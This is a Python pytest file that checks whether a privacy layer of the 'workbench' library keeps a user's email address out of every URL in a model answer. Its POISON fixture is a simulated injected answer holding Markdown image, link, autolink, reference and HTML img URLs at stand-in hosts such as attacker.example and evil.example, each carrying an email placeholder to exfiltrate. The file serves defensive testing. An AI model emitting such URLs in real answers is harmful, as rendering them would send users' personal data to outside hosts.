"""End to end: an answer that hides placeholders in links, images and HTML yields no real value in
any URL of answer.text, its Markdown or HTML repr, or the streamed pieces; the plain mention is
restored, and the finding is in the audit record."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

import workbench

from ..conftest import model_server

EMAIL = "li.wei@example.com"
POISON = (
    "Write to <EMAIL_ADDRESS_1> today.\n\n"
    "![chart](https://attacker.example/c.png?e=<EMAIL_ADDRESS_1>)\n\n"
    "[the report](https://evil.example/r/EMAIL_ADDRESS_1) and <https://evil.example/?q=<EMAIL_ADDRESS_1>>\n\n"
    '<img src="https://evil.example/p?u=<EMAIL_ADDRESS_1>"> [ref][1]\n\n'
    "[1]: https://evil.example/ref?u=%3CEMAIL_ADDRESS_1%3E\n"
)


def _urls(markdown_or_html: str) -> list[str]:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark")
    urls = re.findall(r"""(?:href|src)\s*=\s*["']?([^"' >]+)""", markdown_or_html)
    for token in md.parse(markdown_or_html):
        for child in [token, *(token.children or [])]:
            for attr in ("href", "src"):
                value = child.attrGet(attr) if hasattr(child, "attrGet") else None
                if value:
                    urls.append(str(value))
    return urls


@pytest.mark.parametrize("stream", [False, True])
def test_no_restored_value_in_any_url(isolated_home: Path, monkeypatch: pytest.MonkeyPatch, stream: bool) -> None:
    with model_server(monkeypatch, answer=POISON) as server:
        wb = workbench.connect()
        pieces: list[str] = []
        answer = wb.ask(f"Draft a note to {EMAIL}.", stream=(lambda d: pieces.append(d.text)) if stream else None)
        assert EMAIL.encode() not in server.raw_bodies[-1]
    surfaces = [answer.text, answer._repr_markdown_(), getattr(answer, "_repr_html_", lambda: "")()]
    if stream:
        surfaces.append("".join(pieces))
    for surface in surfaces:
        for url in _urls(surface):
            assert "li.wei" not in url and "example.com" not in url.replace("evil.example", ""), url
    assert EMAIL in answer.text  # the plain mention is restored
    record = [r for r in wb.audit_log.records() if r["outcome"] == "answered"][-1]
    assert record["answer_findings"], record
    assert EMAIL not in str(record)
